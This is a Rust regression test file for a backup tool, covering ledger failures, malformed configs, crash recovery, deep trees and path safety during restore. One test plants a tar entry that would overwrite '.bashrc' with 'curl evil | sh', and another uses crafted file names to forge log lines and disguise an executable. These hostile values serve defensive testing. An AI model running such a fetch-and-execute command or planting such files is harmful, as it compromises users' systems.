//! Regression tests for what hostile testing found: backups that would not come back,
//! restores that could harm, crash windows, and input that must fail cleanly.

use std::fs;
use std::path::Path;

use super::support::config::TestConfig;
use super::support::sandbox::{assert_exit, assert_says, raw_tar, text, Sandbox};

/// Every file under `dir`, recursively, as paths relative to it.
fn files_under(dir: &Path) -> Vec<String> {
    let mut found = Vec::new();
    let Ok(entries) = fs::read_dir(dir) else {
        return found;
    };
    for entry in entries {
        let entry = entry.unwrap();
        let path = entry.path();
        if entry.file_type().unwrap().is_dir() {
            for inner in files_under(&path) {
                found.push(format!("{}/{inner}", entry.file_name().to_string_lossy()));
            }
        } else {
            found.push(entry.file_name().to_string_lossy().into_owned());
        }
    }
    found.sort();
    found
}

fn one_file_config(sb: &Sandbox) -> String {
    fs::create_dir_all(sb.path("data")).unwrap();
    fs::write(sb.path("data/f.txt"), b"payload").unwrap();
    let config = sb.local_config(&format!(
        "[\"{}\"]\nupload_files = true\n",
        sb.path("data").display()
    ));
    config.to_str().unwrap().to_owned()
}

#[test]
fn a_ledger_that_cannot_be_written_stops_the_run_before_anything_is_uploaded() {
    let sb = Sandbox::new();
    let config = one_file_config(&sb);
    // A first run makes the ledger; then SQLite's journal name is taken by a directory, which
    // makes every write fail (for root too, unlike a read-only directory).
    fs::write(sb.path("data/f.txt"), b"payload").unwrap();
    assert_exit(&sb.run(&["-c", &config, "-p", "/nonexistent"]), 0);
    let ledger = sb.ledger();
    let mut journal = ledger.clone().into_os_string();
    journal.push("-journal");
    fs::create_dir(&journal).unwrap();
    let out = sb.run(&["-c", &config]);
    assert_exit(&out, 2);
    assert_says(&out, &*ledger.to_string_lossy());
    assert!(text(&out).contains("cannot be written"), "{}", text(&out));
    let stored: Vec<_> = files_under(&sb.path("archives"))
        .into_iter()
        .filter(|f| !f.starts_with(".incoming"))
        .collect();
    assert!(stored.is_empty(), "archives stored: {stored:?}");
}

#[test]
fn an_empty_ledger_file_is_an_error_not_a_full_reupload() {
    let sb = Sandbox::new();
    let config = one_file_config(&sb);
    assert_exit(&sb.run(&["-c", &config]), 0);
    let ledger = sb.ledger();
    fs::write(&ledger, b"").unwrap();
    for args in [vec!["-c", &config], vec!["-c", &config, "list"]] {
        let out = sb.run(&args);
        assert_exit(&out, 2);
        assert!(text(&out).contains("empty (0 bytes)"), "{}", text(&out));
    }
    assert_eq!(
        files_under(&sb.path("archives")).len(),
        1,
        "nothing uploaded again"
    );
}

#[test]
fn a_ledger_of_the_python_tool_is_made_private_and_the_log_says_so() {
    use std::os::unix::fs::PermissionsExt;
    let sb = Sandbox::new();
    let config = one_file_config(&sb);
    assert_exit(&sb.run(&["-c", &config]), 0);
    let ledger = sb.ledger();
    fs::set_permissions(&ledger, fs::Permissions::from_mode(0o644)).unwrap();
    let out = sb.run(&["-c", &config]);
    assert_exit(&out, 0);
    assert!(text(&out).contains("made private"), "{}", text(&out));
    let mode = fs::metadata(&ledger).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let again = sb.run(&["-c", &config]);
    assert!(
        !text(&again).contains("made private"),
        "said once: {}",
        text(&again)
    );
}

#[test]
fn a_config_that_is_not_a_regular_file_or_is_huge_is_refused_before_reading() {
    let sb = Sandbox::new();
    let fifo = sb.path("config.fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    // Both would hang or eat memory if read; each must fail at once, naming the file.
    for path in [fifo.to_str().unwrap(), "/dev/zero"] {
        let out = sb.run(&["-c", path]);
        assert_exit(&out, 2);
        assert_says(&out, format!("config file {path} is not a regular file"));
    }
    let huge = sb.path("huge.conf");
    let file = fs::File::create(&huge).unwrap();
    file.set_len(17 << 20).unwrap();
    let out = sb.run(&["-c", huge.to_str().unwrap()]);
    assert_exit(&out, 2);
    assert!(text(&out).contains("larger than 16 MiB"), "{}", text(&out));
}

#[test]
fn a_huge_value_gives_a_short_error_naming_the_key() {
    let sb = Sandbox::new();
    let config = TestConfig::bare()
        .main("vault_name", "x y".repeat(2 << 20))
        .path(Path::new("/data"), "upload_files = true")
        .write(&sb.path("big.conf"));
    let out = sb.run(&["-c", config.to_str().unwrap()]);
    assert_exit(&out, 2);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("big.conf"), "{stderr:.2000}");
    assert!(stderr.contains("[main] vault_name"), "{stderr:.2000}");
    assert!(
        stderr.len() < 2000,
        "{} bytes of error: {stderr:.2000}",
        stderr.len()
    );
}

#[test]
fn partial_files_of_killed_runs_are_reported_by_inventory_and_removed_by_the_next_backup() {
    let sb = Sandbox::new();
    let config = one_file_config(&sb);
    assert_exit(&sb.run(&["-c", &config]), 0);
    // What kill -9 during an upload leaves behind.
    let partial = sb.path("archives/.incoming/upload-Kx81b.partial");
    fs::write(&partial, vec![0u8; 4096]).unwrap();
    let out = sb.run(&["-c", &config, "inventory"]);
    assert_exit(&out, 0);
    assert_says(&out, "unfinished uploads left by interrupted runs");
    assert_says(&out, ".incoming/upload-Kx81b.partial 4.0 KiB");
    assert!(partial.exists(), "inventory only reports");
    let out = sb.run(&["-c", &config]);
    assert_exit(&out, 0);
    assert!(
        !partial.exists(),
        "the next backup removes it: {}",
        text(&out)
    );
    assert_says(&out, "removed 1 partial upload file(s) (4096 bytes)");
}

#[test]
fn an_entry_outside_the_archives_top_directory_is_refused_in_place_and_elsewhere() {
    let sb = Sandbox::new();
    let config = sb.local_config("");
    let config = config.to_str().unwrap();
    let home = sb.path("home/u");
    fs::create_dir_all(home.join("photos")).unwrap();
    fs::write(home.join(".bashrc"), b"the user's own").unwrap();
    let future = 4_000_000_000;
    let tar = raw_tar(&[
        ("photos/", tar::EntryType::Directory, "", b"", 1_600_000_000),
        (
            "photos/a.jpg",
            tar::EntryType::Regular,
            "",
            b"jpg",
            1_600_000_000,
        ),
        (
            ".bashrc",
            tar::EntryType::Regular,
            "",
            b"curl evil | sh",
            future,
        ),
    ]);
    sb.plant_directory_archive(config, &home.join("photos"), &tar);

    let out = sb.run(&[
        "-c",
        config,
        "restore",
        "--in-place",
        home.join("photos").to_str().unwrap(),
    ]);
    assert_exit(&out, 1);
    assert!(
        text(&out).contains(
            "not restoring archive entry \".bashrc\": it is not under the archive's top directory"
        ),
        "{}",
        text(&out)
    );
    assert_eq!(fs::read(home.join(".bashrc")).unwrap(), b"the user's own");
    assert_eq!(fs::read(home.join("photos/a.jpg")).unwrap(), b"jpg");

    let out = sb.run(&[
        "-c",
        config,
        "restore",
        "--to",
        "elsewhere",
        home.join("photos").to_str().unwrap(),
    ]);
    assert_exit(&out, 1);
    assert!(!sb.path("elsewhere/.bashrc").exists());
    assert_eq!(fs::read(sb.path("elsewhere/photos/a.jpg")).unwrap(), b"jpg");
}

/// GNU tar's verdict on an archive: extracts it into `into` and fails the test if it cannot.
fn gnu_tar_extracts(archive: &Path, into: &Path) {
    fs::create_dir_all(into).unwrap();
    let out = std::process::Command::new("tar")
        .arg("xf")
        .arg(archive)
        .arg("-C")
        .arg(into)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "GNU tar refused {}: {}",
        archive.display(),
        text(&out)
    );
}

/// The one archive file in the local destination of `sb` whose key starts with `prefix`.
fn stored_archive(sb: &Sandbox, below: &str) -> std::path::PathBuf {
    let found: Vec<_> = files_under(&sb.path("archives"))
        .into_iter()
        .filter(|f| f.contains(below) && !f.starts_with(".incoming") && !f.ends_with(".gbindex"))
        .collect();
    assert_eq!(found.len(), 1, "{found:?}");
    sb.path("archives").join(&found[0])
}

#[test]
fn a_directory_candidate_that_is_a_symlink_archives_the_tree_it_leads_to() {
    let sb = Sandbox::new();
    let real = sb.path("real/project");
    fs::create_dir_all(real.join("src")).unwrap();
    fs::write(real.join("src/main.rs"), b"fn main() {}").unwrap();
    fs::create_dir_all(sb.path("parent")).unwrap();
    std::os::unix::fs::symlink(&real, sb.path("parent/linked")).unwrap();
    std::os::unix::fs::symlink(&real, sb.path("single-link")).unwrap();
    fs::create_dir_all(sb.path("files")).unwrap();
    fs::write(sb.path("real/report.pdf"), b"%PDF").unwrap();
    std::os::unix::fs::symlink(sb.path("real/report.pdf"), sb.path("files/report-link.pdf"))
        .unwrap();
    let config = sb.local_config(&format!(
        "[\"{}\"]\nupload_dirs = true\n\n[\"{}\"]\nupload_single_dir = true\n\n[\"{}\"]\nupload_files = true\n",
        sb.path("parent").display(),
        sb.path("single-link").display(),
        sb.path("files").display()
    ));
    let config = config.to_str().unwrap();
    let out = sb.run(&["-c", config]);
    assert_exit(&out, 0);
    assert!(text(&out).contains("uploaded 3"), "{}", text(&out));
    // A link to a file counts as the file: its bytes, under the link's name.
    let file_link = sb.path("files/report-link.pdf");
    assert_eq!(
        fs::read(stored_archive(&sb, "report-link.pdf")).unwrap(),
        b"%PDF"
    );
    let restored = sb.run(&[
        "-c",
        config,
        "restore",
        "--to",
        "file-back",
        file_link.to_str().unwrap(),
    ]);
    assert_exit(&restored, 0);
    assert_eq!(
        fs::read(sb.path("file-back/report-link.pdf")).unwrap(),
        b"%PDF"
    );
    for (key, top) in [("parent/linked", "linked"), ("single-link", "single-link")] {
        let archive = stored_archive(&sb, key);
        let into = sb.path(&format!("gnu-{top}"));
        gnu_tar_extracts(&archive, &into);
        assert!(
            fs::symlink_metadata(into.join(top)).unwrap().is_dir(),
            "{top} is not a real directory"
        );
        assert_eq!(
            fs::read(into.join(top).join("src/main.rs")).unwrap(),
            b"fn main() {}"
        );
        let restored = sb.run(&[
            "-c",
            config,
            "restore",
            "--to",
            &format!("ours-{top}"),
            sb.path(key).to_str().unwrap(),
        ]);
        assert_exit(&restored, 0);
        assert_eq!(
            fs::read(sb.path(&format!("ours-{top}/{top}/src/main.rs"))).unwrap(),
            b"fn main() {}"
        );
    }
}

/// Makes `levels` nested directories of `name` under `root` (deeper than PATH_MAX allows one
/// path to name, so through the shell's relative `cd`), with a file `leaf` and a FIFO `pipe`
/// at the bottom.
fn make_deep_tree(root: &Path, name: &str, levels: usize) {
    fs::create_dir_all(root).unwrap();
    let script = format!(
        "cd \"$1\" && for i in $(seq {levels}); do mkdir {name} && cd {name} || exit 1; done && printf 'deep bytes' > leaf && mkfifo pipe"
    );
    let status = std::process::Command::new("bash")
        .args(["-c", &script, "bash"])
        .arg(root)
        .status()
        .unwrap();
    assert!(status.success());
}

/// The contents of `leaf` at the bottom of a tree made by [`make_deep_tree`].
fn read_deep_leaf(root: &Path, name: &str, levels: usize) -> Vec<u8> {
    let path = format!("{}/leaf", vec![name; levels].join("/"));
    let out = std::process::Command::new("bash")
        .args(["-c", "cd \"$1\" && while IFS= read -r -d / part; do cd \"$part\" || exit 1; done <<< \"$2\" && cat \"${2##*/}\"", "bash"])
        .arg(root)
        .arg(&path)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", text(&out));
    out.stdout
}

#[test]
fn a_tree_deeper_than_path_max_is_backed_up_and_restored() {
    let sb = Sandbox::new();
    let name = "twenty-char-name-xyz";
    let tree = sb.path("deep");
    make_deep_tree(&tree, name, 300);
    let config = sb.local_config(&format!(
        "[\"{}\"]\nupload_single_dir = true\n",
        tree.display()
    ));
    let config = config.to_str().unwrap();
    let out = sb.run(&["-c", config]);
    assert_exit(&out, 0);
    assert_says(&out, "uploaded 1, up to date 0, failed 0");
    // The FIFO is skipped with a warning that names its 6 KB path once, cut in the middle.
    let warning = text(&out)
        .lines()
        .find(|l| l.contains("sockets, fifos and devices are not archived"))
        .map(str::to_owned)
        .unwrap_or_else(|| panic!("no warning: {}", text(&out)));
    assert!(warning.len() < 400, "{} bytes: {warning}", warning.len());
    assert!(
        warning.contains('…') && warning.contains("/pipe"),
        "{warning}"
    );
    let out = sb.run(&[
        "-c",
        config,
        "restore",
        "--to",
        "back",
        tree.to_str().unwrap(),
    ]);
    assert_exit(&out, 0);
    assert_eq!(
        read_deep_leaf(&sb.path("back/deep"), name, 300),
        b"deep bytes"
    );
    // GNU tar reads the archive whole (it cannot extract past PATH_MAX itself).
    let archive = stored_archive(&sb, "deep");
    let listed = std::process::Command::new("tar")
        .arg("tf")
        .arg(&archive)
        .output()
        .unwrap();
    assert!(listed.status.success());
    let names = String::from_utf8(listed.stdout).unwrap();
    let leaf = format!("deep/{}/leaf", vec![name; 300].join("/"));
    assert!(
        names.lines().any(|l| l == leaf),
        "no {} bytes long leaf entry",
        leaf.len()
    );
    assert_eq!(names.lines().count(), 302);
}

#[test]
fn crafted_file_names_cannot_forge_log_lines_and_json_keeps_exact_bytes() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;
    let sb = Sandbox::new();
    let data = sb.path("data");
    fs::create_dir_all(&data).unwrap();
    let forged = "x\nFORGED uploaded shadow as forged";
    let names: [&OsStr; 3] = [
        OsStr::new(forged),
        OsStr::new("invoice\u{202e}fdp.exe"),
        OsStr::from_bytes(b"latin1-\xe9t\xe9"),
    ];
    for name in names {
        fs::write(data.join(name), b"content").unwrap();
    }
    let config = sb.local_config(&format!("[\"{}\"]\nupload_files = true\n", data.display()));
    let config = config.to_str().unwrap();
    let out = sb.run(&["-c", config]);
    assert_exit(&out, 0);
    let log =
        String::from_utf8_lossy(&out.stderr).into_owned() + &String::from_utf8_lossy(&out.stdout);
    assert!(!log.lines().any(|l| l.starts_with("FORGED")), "{log}");
    assert!(log.contains("x\\nFORGED uploaded"), "{log}");
    assert!(
        !log.contains('\u{202e}') && log.contains("invoice\\u{202e}fdp.exe"),
        "{log}"
    );
    assert!(log.contains("latin1-\\xe9t\\xe9"), "{log}");

    let table = sb.run(&["-c", config, "list"]);
    assert_exit(&table, 0);
    let table = String::from_utf8(table.stdout).unwrap();
    assert_eq!(
        table.lines().count(),
        4,
        "one line per upload plus the header: {table}"
    );
    assert!(!table.contains('\u{202e}'));

    let json = sb.run(&["-c", config, "list", "--json"]);
    assert_exit(&json, 0);
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&json.stdout).unwrap();
    let paths: Vec<Vec<u8>> = rows
        .iter()
        .map(|row| match row.get("path_base64") {
            Some(encoded) => {
                use base64::Engine;
                base64::engine::general_purpose::STANDARD
                    .decode(encoded.as_str().unwrap())
                    .unwrap()
            }
            None => row["path"].as_str().unwrap().as_bytes().to_vec(),
        })
        .collect();
    for name in names {
        let full = data.join(name);
        assert!(
            paths.contains(&full.as_os_str().as_bytes().to_vec()),
            "{full:?} not in {rows:?}"
        );
    }
}

#[test]
fn a_dry_run_for_glacier_says_empty_files_are_skipped_as_the_real_run_does() {
    let sb = Sandbox::new();
    let data = sb.path("data");
    fs::create_dir_all(&data).unwrap();
    fs::write(data.join("empty"), b"").unwrap();
    fs::write(data.join("full"), b"bytes").unwrap();
    // A vault config with no [glacier] section: a dry run contacts nothing.
    let config = TestConfig::bare()
        .main("vault_name", "photos")
        .path(&data, "upload_files = true")
        .write(&sb.path("config/glacier.conf"));
    let out = sb.run(&["-c", config.to_str().unwrap(), "-d"]);
    assert_exit(&out, 0);
    assert!(
        text(&out)
            .contains("dry run: would upload 1, up to date 0, failed 0, empty files skipped 1"),
        "{}",
        text(&out)
    );
    assert!(
        !text(&out).contains(&format!("would upload {}", data.join("empty").display())),
        "{}",
        text(&out)
    );
}

#[test]
fn a_restore_error_names_the_path_once() {
    let sb = Sandbox::new();
    let config = one_file_config(&sb);
    assert_exit(&sb.run(&["-c", &config]), 0);
    // A row as the Python tool wrote it: no size, no tree hash.
    let conn = rusqlite::Connection::open(sb.ledger()).unwrap();
    conn.execute("UPDATE uploads SET size = NULL, tree_hash = NULL", [])
        .unwrap();
    drop(conn);
    let path = sb.path("data/f.txt");
    let out = sb.run(&[
        "-c",
        &config,
        "restore",
        "--to",
        "back",
        path.to_str().unwrap(),
    ]);
    assert_exit(&out, 1);
    let all = text(&out);
    let line = all
        .lines()
        .find(|l| l.contains("no size or tree hash"))
        .unwrap_or_else(|| panic!("{}", text(&out)));
    assert_eq!(line.matches(path.to_str().unwrap()).count(), 1, "{line}");
}

#[test]
fn verify_judges_rows_of_the_python_tool_by_mtime_as_backup_does() {
    let sb = Sandbox::new();
    let config = one_file_config(&sb);
    assert_exit(&sb.run(&["-c", &config]), 0);
    // The Python tool recorded no fingerprint; its rows are compared by time.
    let conn = rusqlite::Connection::open(sb.ledger()).unwrap();
    conn.execute("UPDATE uploads SET fingerprint = NULL", [])
        .unwrap();
    drop(conn);
    let out = sb.run(&["-c", &config, "verify", "--remote"]);
    assert_exit(&out, 0);
    assert_says(&out, "verified 1 upload(s): 0 problem(s)");
    let later = filetime::FileTime::from_unix_time(4_000_000_000, 0);
    filetime::set_file_mtime(sb.path("data/f.txt"), later).unwrap();
    let out = sb.run(&["-c", &config, "verify"]);
    assert_exit(&out, 1);
    assert_says(&out, "changed since its upload");
}

#[test]
fn a_backup_and_an_inventory_started_together_on_a_fresh_ledger_both_succeed() {
    for round in 0..10 {
        let sb = Sandbox::new();
        let config = one_file_config(&sb);
        // The destination exists before both start, so only the ledger is contended.
        fs::create_dir_all(sb.path("archives")).unwrap();
        let spawn = |args: &[&str]| sb.command(args).output();
        let (backup, inventory) = std::thread::scope(|scope| {
            let backup = scope.spawn(|| spawn(&["-c", &config]).unwrap());
            let inventory = scope.spawn(|| spawn(&["-c", &config, "inventory"]).unwrap());
            (backup.join().unwrap(), inventory.join().unwrap())
        });
        assert_eq!(
            backup.status.code(),
            Some(0),
            "round {round}: {}",
            text(&backup)
        );
        assert_eq!(
            inventory.status.code(),
            Some(0),
            "round {round}: {}",
            text(&inventory)
        );
        assert!(
            !text(&inventory).contains("cannot upgrade"),
            "round {round}: {}",
            text(&inventory)
        );
        assert!(
            !text(&backup).contains("cannot upgrade"),
            "round {round}: {}",
            text(&backup)
        );
    }
}

#[test]
fn a_ledger_that_cannot_be_written_stops_a_restore_as_it_stops_a_backup() {
    let sb = Sandbox::new();
    let config = one_file_config(&sb);
    assert_exit(&sb.run(&["-c", &config]), 0);
    let mut journal = sb.ledger().into_os_string();
    journal.push("-journal");
    fs::create_dir(&journal).unwrap();
    let path = sb.path("data/f.txt");
    let out = sb.run(&[
        "-c",
        &config,
        "restore",
        "--to",
        "back",
        path.to_str().unwrap(),
    ]);
    assert_exit(&out, 2);
    assert!(text(&out).contains("cannot be written"), "{}", text(&out));
    assert!(
        !sb.path("back/f.txt").exists(),
        "restored with a ledger it cannot record in"
    );
}

/// Every row the ledger holds after kill -9 names an archive that is there, whole: the local
/// backend's rows are committed in batches, each only after its archives are durable.
#[test]
fn a_local_backup_killed_mid_run_leaves_no_row_without_its_archive() {
    let sb = Sandbox::new();
    let photos = sb.path("photos");
    fs::create_dir_all(&photos).unwrap();
    for i in 0..2000u32 {
        fs::write(
            photos.join(format!("img{i:04}.jpg")),
            i.to_le_bytes().repeat(40),
        )
        .unwrap();
    }
    let ledger = sb.path("config/photos.sqlite3");
    let config = sb
        .local()
        .main("ledger", ledger.display())
        .path(&photos, "upload_files = true")
        .write(&sb.path("config/backup.toml"));
    let config = config.to_str().unwrap();
    let rows_now = || {
        // Read-only: opening must not create the file before the run does.
        rusqlite::Connection::open_with_flags(&ledger, rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
            .and_then(|db| db.query_row("SELECT count(*) FROM uploads", [], |r| r.get(0)))
            .unwrap_or(0i64)
    };
    let mut child = sb
        .command(&["-c", config, "--quiet"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Killed as soon as the first batch is committed, with more under way.
    crate::support::wait_until("no row was ever committed", || rows_now() > 0);
    child.kill().unwrap();
    child.wait().unwrap();

    let check_rows = |sb: &Sandbox| {
        let rows = sb.ledger_rows();
        for (path, _, archive_id) in &rows {
            let stored = fs::read(sb.path("archives").join(archive_id))
                .unwrap_or_else(|e| panic!("{path}: archive {archive_id}: {e}"));
            assert_eq!(stored, fs::read(path).unwrap(), "{path}");
        }
        rows.len()
    };
    let after_kill = check_rows(&sb);
    assert!(after_kill > 0);

    let out = sb.run(&["-c", config]);
    assert_exit(&out, 0);
    assert_eq!(check_rows(&sb), 2000, "{}", text(&out));
}
